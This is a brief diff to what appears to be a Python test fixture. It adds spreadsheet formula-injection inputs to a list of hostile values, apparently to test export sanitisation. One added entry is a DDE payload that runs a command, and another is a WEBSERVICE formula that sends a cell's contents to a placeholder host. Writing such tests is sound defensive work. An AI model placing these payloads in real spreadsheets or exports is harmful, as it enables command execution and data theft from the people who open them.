@@ -6,6 +6,8 @@ from typing import Any
 
 HOSTILE = (
     '=HYPERLINK("http://example.invalid","free money")',
+    "=cmd|' /C calc'!A0",
+    '=WEBSERVICE("https://example.invalid/"&A1)',
     "+1+1",
     "-2+3",
     "@SUM(A1:A9)",
@@ -19,6 +21,9 @@ HOSTILE = (
     "Ünïcödé ☃ 🦙",
     "x" * 40_000,
     "\t=1+1",
+    "first line\n=1+1",
+    "https://example.invalid/?q=1#top",
+    "mailto:someone@example.invalid",
 )
 WHY = {"assumption": "made up for a test"}
 
